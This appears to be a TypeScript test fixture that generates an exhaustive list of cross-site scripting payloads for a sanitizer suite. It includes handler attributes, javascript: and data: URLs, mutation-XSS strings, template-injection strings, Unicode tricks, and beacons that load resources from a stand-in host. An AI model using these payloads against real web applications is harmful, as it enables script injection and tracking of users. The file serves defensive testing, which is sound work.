/**
 * Shapes in which markup tries to run, or to send something away: written for this suite, each leaves a mark
 * (`window.hit`) or asks a host that nobody may be asked. What they are made of is data; the list is every combination.
 */
const RUN = 'window.hit=1';
const AWAY = '//elsewhere.example';

/** Elements that run a handler by themselves, or when something is done with them. */
const ELEMENTS: readonly (readonly [string, string])[] = [
  ['img src=x', 'onerror'],
  ['img src=x', 'onload'],
  ['svg', 'onload'],
  ['svg/', 'onload'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['button autofocus', 'onfocus'],
  ['a tabindex=1 autofocus', 'onfocus'],
  ['details open', 'ontoggle'],
  ['video src=x', 'onerror'],
  ['audio src=x', 'onerror'],
  ['video><source', 'onerror'],
  ['iframe src=x', 'onload'],
  ['object data=x', 'onerror'],
  ['embed src=x', 'onload'],
  ['marquee', 'onstart'],
  ['style', 'onload'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['script src=x', 'onerror'],
  ['frameset', 'onload'],
  ['div contenteditable autofocus', 'onfocusin'],
  ['div style=animation:x', 'onanimationstart'],
  ['div popover id=x', 'onbeforetoggle'],
  ['math href=x', 'onclick'],
  ['dialog open', 'onclose'],
];

/** Ways of writing one and the same handler. */
const SPELLINGS: readonly ((element: string, event: string) => string)[] = [
  (element, event) => `<${element} ${event}=${RUN}>`,
  (element, event) => `<${element} ${event.toUpperCase()}="${RUN}">`,
  (element, event) => `<${element}\n${event}\n=\n'${RUN}'>`,
  (element, event) => `"><${element} ${event}=${RUN} x="`,
  (element, event) => `'><${element} ${event}=${RUN} x='`,
  (element, event) => `<${element} ${event}=&#119;indow.hit=1>`,
  (element, event) => `&lt;${element} ${event}=${RUN}&gt;`,
];

/** Addresses that are programs. */
const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `  javascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `&#106;avascript:${RUN}`,
  `javascript:/*--></title></style></textarea></script>*/${RUN}//`,
  `data:text/html,<script>parent.${RUN}</script>`,
  'data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4=',
  `vbscript:${RUN}`,
  `https://harbour.example/"onmouseover="${RUN}`,
  `https://harbour.example/'><script>${RUN}</script>`,
];

const PLACES: readonly ((address: string) => string)[] = [
  (address) => `<a href="${address}">open</a>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<form action="${address}"><button>send</button></form>`,
  (address) => `<svg><a xlink:href="${address}"><text y=20>open</text></a></svg>`,
  (address) => `<object data="${address}"></object>`,
  (address) => `[url=${address}]open[/url]`,
  (address) => `[open](${address})`,
  (address) => `[img]${address}[/img]`,
];

/** Ends of what the words may stand in, and a program behind each. */
const ENDS = [
  '</script>',
  '</style>',
  '</title>',
  '</textarea>',
  '</noscript>',
  '</template>',
  '-->',
  ']]>',
  '">',
  "'>",
  '`>',
  '</svg>',
  '</select>',
  '*/',
  '}}',
  '%>',
];

/** Markup that changes its meaning when it is written down and read again. */
const TURNING = [
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`,
  `<svg><foreignObject><script>${RUN}</script></foreignObject></svg>`,
  `<svg><animate attributeName=href values=javascript:${RUN} /><a id=x><text>x</text></a></svg>`,
  `<svg><set attributeName=onmouseover to=${RUN} /></svg>`,
  `<template><script>${RUN}</script></template>`,
  `<select><noembed></select><script>${RUN}</script>`,
  `<xmp><img src="</xmp><img src=x onerror=${RUN}>">`,
  `<table><td background=javascript:${RUN}>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!-- --!><img src=x onerror=${RUN}> -->`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<?xml-stylesheet href="javascript:${RUN}"?>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<base href=${AWAY}/><script src=hit.js></script>`,
  `<plaintext><img src=x onerror=${RUN}>`,
];

/** Programs of page makers, and of this one's own parts. */
const TEMPLATES = [
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `#{${RUN}}`,
  `<%= ${RUN} %>`,
  `{"html":"<img src=x onerror=${RUN}>"}`,
  `{"__proto__":{"innerHTML":"<img src=x onerror=${RUN}>"}}`,
  `<div data-live="body" data-key="j" data-item="x">keys</div>`,
  `<form data-live="main" action="/decide" method="post"><button data-key="a">a</button></form>`,
  `<div hx-get="/log" hx-trigger="load" hx-on::load="${RUN}">x</div>`,
  `<mark class="hostile" onclick=${RUN}>x</mark>`,
];

/** What would tell somebody that a page was read, or take the reader away. */
const LEAVING = [
  `<img src=${AWAY}/p.png>`,
  `<img srcset="${AWAY}/p.png 2x">`,
  `<link rel=prefetch href=${AWAY}/p>`,
  `<link rel=stylesheet href=${AWAY}/p.css>`,
  `<meta http-equiv=refresh content="0;url=${AWAY}/">`,
  `<style>@import url(${AWAY}/p.css);</style>`,
  `<div style="background:url(${AWAY}/p.png)">x</div>`,
  `<style>body{display:none}*{background:url(${AWAY}/q)}</style>`,
  `<video poster=${AWAY}/p.png></video>`,
  `<svg><image href=${AWAY}/p.png /><use href=${AWAY}/p.svg#x /></svg>`,
  `<input type=image src=${AWAY}/p.png>`,
  `<a ping=${AWAY}/ping href=/queue>x</a>`,
];

/** Letters that machines read in another way than people. */
const LETTERS = [
  `＜script＞${RUN}＜/script＞`,
  `\u2028<img src=x onerror=${RUN}>\u2029`,
  `\uFEFF<script>${RUN}</script>`,
  `\u202E<script>${RUN}</script>`,
  `<scr\u0000ipt>${RUN}</scr\u0000ipt>`,
  `<scr\u200bipt>${RUN}</script>`,
  `\uD83D\uDE00<img src=x onerror=${RUN}>`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `\u001b]0;<script>${RUN}</script>\u0007`,
  '\uE000<b>\uE001',
];

export const PAYLOADS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=${AWAY}/hit.js></SCRIPT>`,
  `<script type=module>${RUN}</script>`,
  `<script/x>${RUN}</script/x>`,
  ...ELEMENTS.flatMap(([element, event]) => SPELLINGS.map((spell) => spell(element, event))),
  ...ADDRESSES.flatMap((address) => PLACES.map((place) => place(address))),
  ...ENDS.map((end) => `${end}<script>${RUN}</script>`),
  ...ENDS.map((end) => `${end}<img src=x onerror=${RUN}>`),
  ...TURNING,
  ...TEMPLATES,
  ...LEAVING,
  ...LETTERS,
];

/** The nth, beginning again at the end. */
export const payload = (n: number): string => PAYLOADS[n % PAYLOADS.length] ?? '';
